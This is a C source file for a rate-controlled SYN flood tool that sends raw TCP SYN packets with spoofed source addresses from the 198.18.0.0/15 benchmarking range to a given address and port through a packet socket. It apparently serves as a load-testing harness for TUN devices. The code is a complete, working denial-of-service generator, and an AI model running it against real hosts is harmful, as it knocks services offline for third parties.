/* SPDX-License-Identifier: Apache-2.0
 *
 * A SYN flood: from addresses of 198.18.0.0/15 that nobody has, to one address and port, by a packet socket on the device that leads there.
 *
 *     tcp_flood DEVICE ADDRESS PORT PER_SECOND SECONDS
 *
 * For IP devices (TUN). Prints one JSON object: how many were sent, and in which time.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, MSS = 4, LENGTH = sizeof(struct iphdr) + sizeof(struct tcphdr) + MSS };

static uint8_t packets[BATCH][LENGTH];
static uint64_t seed = 88172645463325252u;

static uint64_t draw(void)
{
    seed ^= seed << 13;
    seed ^= seed >> 7;
    return seed ^= seed << 17;
}

static uint32_t sum(const void *bytes, size_t n, uint32_t so_far)
{
    const uint8_t *b = bytes;
    for (size_t i = 0; i + 1 < n; i += 2)
        so_far += (uint32_t)(b[i] << 8 | b[i + 1]);
    return so_far;
}

static uint16_t fold(uint32_t s)
{
    s = (s >> 16) + (s & 0xffff);
    return htons((uint16_t)~(s + (s >> 16)));
}

static void make(uint8_t *packet, uint32_t to, uint16_t port)
{
    static const uint8_t option[MSS] = { 2, 4, 0x05, 0xb4 };
    const uint64_t chance = draw();
    struct iphdr ip = { .version = 4, .ihl = 5, .tot_len = htons(LENGTH), .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to,
                        .saddr = htonl(0xc6120000u | (uint32_t)(chance & 0x1ffff)) };
    struct tcphdr tcp = { .source = htons((uint16_t)(1024 + (chance >> 17) % 60000)), .dest = htons(port), .seq = (uint32_t)(chance >> 32), .doff = 6, .syn = 1,
                          .window = htons(65535) };
    ip.check = fold(sum(&ip, sizeof ip, 0));
    tcp.check = fold(sum(&ip.saddr, 8, sum(option, MSS, sum(&tcp, sizeof tcp, IPPROTO_TCP + sizeof tcp + MSS))));
    memcpy(packet, &ip, sizeof ip);
    memcpy(packet + sizeof ip, &tcp, sizeof tcp);
    memcpy(packet + sizeof ip + sizeof tcp, option, MSS);
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

int main(int argc, char **argv)
{
    static struct mmsghdr messages[BATCH];
    static struct iovec pieces[BATCH];
    if (argc != 6)
        return 2;
    struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_protocol = htons(0x0800), .sll_ifindex = (int)if_nametoindex(argv[1]) };
    const int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
    const uint32_t to = inet_addr(argv[2]);
    const double rate = atof(argv[4]), seconds = atof(argv[5]), begun = now_s();
    uint64_t sent = 0, lost = 0;
    if (fd < 0 || at.sll_ifindex == 0) {
        perror("tcp_flood");
        return 1;
    }
    for (int i = 0; i < BATCH; i++) {
        pieces[i] = (struct iovec){ packets[i], LENGTH };
        messages[i].msg_hdr = (struct msghdr){ .msg_name = &at, .msg_namelen = sizeof at, .msg_iov = &pieces[i], .msg_iovlen = 1 };
    }
    for (double now = begun; now < begun + seconds; now = now_s()) {
        if ((double)sent > (now - begun) * rate) {
            const struct timespec moment = { 0, 50000 };
            nanosleep(&moment, NULL);
            continue;
        }
        for (int i = 0; i < BATCH; i++)
            make(packets[i], to, (uint16_t)atoi(argv[3]));
        const int n = sendmmsg(fd, messages, BATCH, 0);
        sent += n > 0 ? (uint64_t)n : 0;
        lost += n < BATCH;
    }
    printf("{\"sent\": %llu, \"seconds\": %.3f, \"short_batches\": %llu}\n", (unsigned long long)sent, now_s() - begun, (unsigned long long)lost);
    return 0;
}
